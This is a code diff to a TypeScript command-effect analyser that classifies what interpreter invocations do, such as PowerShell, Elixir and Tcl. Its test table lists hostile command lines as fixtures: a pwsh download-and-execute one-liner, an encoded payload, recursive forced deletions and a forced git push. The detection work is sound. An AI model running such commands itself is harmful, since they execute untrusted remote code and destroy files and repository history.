@@ -1,7 +1,8 @@
 /** Interpreters of languages without a reader: what their code hands to a shell, deletes or joins to a socket is read. */
 import { exactText } from '../args.ts';
 import type { Effect } from '../effect.ts';
-import { madeSources, readForeign } from '../foreign-code.ts';
+import { madeSources, readForeign, readSource } from '../foreign-code.ts';
+import { asShellLines } from '../powershell-lines.ts';
 import type { Arg, Call, Program, Reading } from '../program.ts';
 import { ofDownload } from '../run-code.ts';
 import { flowOf, known, split, words } from '../subcommands.ts';
@@ -31,11 +32,20 @@ function read(call: Call): Reading {
   if (texts.length === 0 && operands.length === 0 && call.stdin.text !== null) texts.push(call.stdin.text);
   return {
     effects: [
-      ...texts.flatMap((text) => readForeign(call, text)),
+      ...texts.flatMap((text) => (isPowerShell(call) ? powerShell(call, text) : readForeign(call, text))),
       ...(code.length === 0 ? [...madeSources(call, operands), ...downloaded(call, operands[0])] : []),
     ],
     output: flowOf('unknown'),
   };
+}
+
+/** PowerShell's own commands are read as the shell's that do the same; what is more than statements, by its words. */
+function powerShell(call: Call, code: string): readonly Effect[] {
+  const lines = asShellLines(code);
+  return [
+    ...readSource(call, code),
+    ...(lines === null ? [] : call.script(lines, call.name).effects.filter((effect) => effect.kind !== 'opaque')),
+  ];
 }
 
 function downloaded(call: Call, script: Arg | undefined): readonly Effect[] {
@@ -46,7 +56,7 @@ export const programs: readonly Program[] = [
   {
     names: words(
       `Rscript R julia elixir iex erl escript tclsh wish expect groovy groovysh jshell jrunscript scala scala-cli amm
-       kotlin guile racket sbcl clisp ecl clj clojure bb ghci runghc runhaskell octave gnuplot pwsh powershell m4 crystal
+       kotlin guile racket sbcl clisp ecl clj clojure bb ghc ghci runghc runhaskell octave gnuplot pwsh powershell m4 crystal
        raku swipl ocaml utop janet fennel newlisp csi gst nickel v vlang`,
     ),
     manual: 'Rscript(1) 4.5, julia(1) 1.12, elixir(1) 1.18, jrunscript(1) 21, tclsh(1) 9.0, pwsh 7.5',
@@ -71,6 +81,11 @@ export const programs: readonly Program[] = [
       { command: 'pwsh -c "iwr http://example.com/x.ps1 | iex"', effects: ['run.remote-code'] },
       { command: 'pwsh -enc SQBFAFgA', effects: ['run.decoded'] },
       { command: 'pwsh -Command Get-Date', effects: [] },
+      { command: "pwsh -c 'Remove-Item -Recurse -Force src'", effects: ['fs.delete'] },
+      { command: "pwsh -c 'Get-ChildItem src | Remove-Item -Force'", effects: ['fs.delete'] },
+      { command: 'pwsh -Command "git push --force"', effects: ['git.push'] },
+      { command: `elixir -e 'System.cmd("rm",["-rf","src"])'`, effects: ['fs.delete'] },
+      { command: "tclsh <<< 'exec rm -rf src'", effects: ['fs.delete'] },
     ],
   },
 ];
